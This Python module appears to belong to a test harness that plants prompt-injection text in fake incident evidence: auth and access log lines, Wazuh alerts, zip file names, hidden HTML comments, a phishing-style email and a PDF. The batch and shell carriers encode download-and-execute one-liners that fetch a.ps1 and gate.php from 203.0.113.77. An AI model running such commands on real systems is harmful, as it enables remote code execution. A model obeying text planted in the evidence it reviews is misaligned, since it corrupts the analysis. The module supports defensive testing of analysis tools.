"""Carriers: real attack evidence with a place that an attacker can write to, and the attack planted there.

The evidence is that of `examples/`: what has to be found in it is known from reading it without an attack.
"""

import base64
import io
import json
import re
import textwrap
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from email.message import EmailMessage
from html import escape
from pathlib import Path

from casemate.core.errors import WrongUsage
from casemate.stages.ingest import Source

_SPACE = re.compile(r"[\s\x00-\x1f\x7f]+")
_NAME_CHARS = 180
_HARMLESS = "sensor restarted"
"""What stands in the place when nobody attacks."""


@dataclass(frozen=True, slots=True)
class Examples:
    """The evidence that carries attacks."""

    auth: str
    access: str
    script: str

    @classmethod
    def read(cls, folder: Path) -> "Examples":
        """Read the folder `examples`; `WrongUsage` when it is another one."""
        try:
            return cls(
                (folder / "auth.log").read_text("utf-8"),
                (folder / "access.log").read_text("utf-8"),
                (folder / "cron-update.sh").read_text("utf-8"),
            )
        except OSError as error:
            message = f"{folder} is not the folder of examples: {error.strerror}"
            raise WrongUsage(message, way_out="name it: --examples FOLDER") from error


Plant = Callable[[Examples, str], list[Source]]
"""Makes the evidence of one case with a text planted."""


def flatten(text: str) -> str:
    """Put a text on one line, as a log has it."""
    return _SPACE.sub(" ", text).strip()


def _source(name: str, data: bytes) -> Source:
    return Source(name, lambda: io.BytesIO(data))


def _auth(examples: Examples) -> Source:
    return _source("auth.log", examples.auth.encode())


def _log_message(examples: Examples, text: str) -> list[Source]:
    line = f"Nov 22 13:10:51 web01 sshd[16773]: error: {flatten(text)}\n"
    return [_source("auth.log", (line + examples.auth).encode("utf-8", "replace"))]


def _user_name(examples: Examples, text: str) -> list[Source]:
    lines = examples.auth.splitlines(keepends=True)
    first = next(at for at, line in enumerate(lines) if "Failed password" in line)
    who = f"invalid user {flatten(text)} from 198.51.100.23 port 40022 ssh2"
    told = f"{lines[first][:15]} web01 sshd[16901]: Failed password for {who}\n"
    return [_source("auth.log", "".join([*lines[:first], told, *lines[first:]]).encode("utf-8", "replace"))]


def _user_agent(examples: Examples, text: str) -> list[Source]:
    agent = flatten(text).replace("\\", "\\x5C").replace('"', "\\x22")
    line = f'203.0.113.77 - - [22/Nov/2026:13:13:00 +0000] "GET /favicon.ico HTTP/1.1" 404 153 "-" "{agent}"\n'
    return [_source("access.log", (line + examples.access).encode("utf-8", "replace"))]


def _alert_field(examples: Examples, text: str) -> list[Source]:
    alerts = []
    for number in range(6):
        told = text if number == 0 else "admin"
        line = f"sshd[16901]: Failed password for invalid user {told} from 198.51.100.23 port {40022 + number} ssh2"
        alerts.append(
            {
                "timestamp": f"2026-11-22T13:11:0{number}.000+0000",
                "rule": {
                    "level": 12,
                    "description": "sshd: brute force trying to get access to the system.",
                    "id": "5712",
                    "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
                    "groups": ["syslog", "sshd", "authentication_failures"],
                },
                "agent": {"id": "001", "name": "web01", "ip": "192.0.2.10"},
                "manager": {"name": "wazuh"},
                "id": f"1795353061.{number}",
                "full_log": line,
                "data": {"srcip": "198.51.100.23", "srcuser": told},
                "location": "/var/log/auth.log",
            }
        )
    return [_auth(examples), _source("alerts.json", "".join(json.dumps(one) + "\n" for one in alerts).encode())]


def _file_name(examples: Examples, text: str) -> list[Source]:
    name = flatten(text).replace("/", "_")[:_NAME_CHARS] + ".log"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 11, 22, 13, 0, 0)), examples.auth)
    return [_source(f"{name}.zip", packed.getvalue())]


def _html_comment(examples: Examples, text: str) -> list[Source]:
    hidden = text.replace("--", "- -")
    page = (
        f"<html><head><title>Report</title></head><body><!-- {hidden} --><p>The host web01 was logged on to from "
        "198.51.100.23 after many guesses. The script fetched http://203.0.113.77/gate.php.</p>"
        f'<p style="display:none">{escape(text)}</p></body></html>'
    )
    return [_auth(examples), _source("report.html", page.encode("utf-8", "replace"))]


def _mail_body(examples: Examples, text: str) -> list[Source]:
    mail = EmailMessage()
    mail["From"], mail["To"] = "accounts@cdn-update.example", "erika@corp.example"
    mail["Subject"], mail["Date"] = "Statement", "Sun, 22 Nov 2026 08:12:44 +0000"
    mail["Message-ID"] = "<20261122081244.7F3B@cdn-update.example>"
    mail.set_content(text.encode("utf-8", "replace").decode() + "\n\nhttp://billing.cdn-update.example/portal/login\n")
    mail.add_attachment(examples.script.encode(), maintype="application", subtype="x-sh", filename="update.sh")
    mail.set_boundary("carrier-boundary")
    return [_auth(examples), _source("statement.eml", bytes(mail))]


def _pdf_text(examples: Examples, text: str) -> list[Source]:
    told = "The host web01 was logged on to from 198.51.100.23 after many guesses."
    return [_auth(examples), _source("report.pdf", write_pdf(f"Incident report\n{text}\n{told}"))]


def _powershell(examples: Examples, text: str) -> list[Source]:
    code = f"Write-Host '{flatten(text)}'; IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
    encoded = base64.b64encode(code.encode("utf-16-le", "replace")).decode()
    line = f"@echo off\r\nstart /b powershell.exe -NoP -W Hidden -Enc {encoded}\r\n"
    return [_auth(examples), _source("start.bat", line.encode())]


def _bash(examples: Examples, text: str) -> list[Source]:
    code = f"#!/bin/sh\n# {flatten(text)}\ncurl -s http://203.0.113.77/gate.php | sh\n"
    encoded = base64.b64encode(code.encode("utf-8", "replace")).decode()
    return [_auth(examples), _source("update.sh", f"#!/bin/sh\necho {encoded} | base64 -d | sh\n".encode())]


def write_pdf(text: str) -> bytes:
    """Write a PDF of plain text: Helvetica, 90 columns, as many pages as it takes (PDF 32000-1:2008, clause 7.5)."""
    lines = [part for line in text.splitlines() for part in textwrap.wrap(line, 90) or [""]]
    pages = [lines[at : at + 50] for at in range(0, len(lines), 50)] or [[""]]
    kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(len(pages)))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for number, page in enumerate(pages):
        shown = "".join(f"({_escaped(line)}) Tj T*\n" for line in page)
        content = f"BT /F1 10 Tf 14 TL 50 780 Td\n{shown}ET".encode("cp1252", "replace")
        frame = f"/Resources << /Font << /F1 3 0 R >> >> /Contents {5 + 2 * number} 0 R"
        objects.append(f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] {frame} >>".encode())
        objects.append(f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    begin = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{begin}\n%%EOF\n".encode()
    return bytes(out)


def _escaped(line: str) -> str:
    bare = "".join(char if char.isprintable() else " " for char in line)
    return bare.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


CARRIERS: Mapping[str, Plant] = {
    "log-message": _log_message,
    "user-name": _user_name,
    "user-agent": _user_agent,
    "alert-field": _alert_field,
    "file-name": _file_name,
    "html-comment": _html_comment,
    "mail-body": _mail_body,
    "pdf-text": _pdf_text,
    "powershell-payload": _powershell,
    "bash-payload": _bash,
}
"""Where an attacker writes -> what makes the evidence."""


def plant(carrier: str, examples: Examples, text: str | None) -> list[Source]:
    """Make the evidence of one case, with an attack or, for None, with something harmless in its place."""
    return CARRIERS[carrier](examples, _HARMLESS if text is None else text)
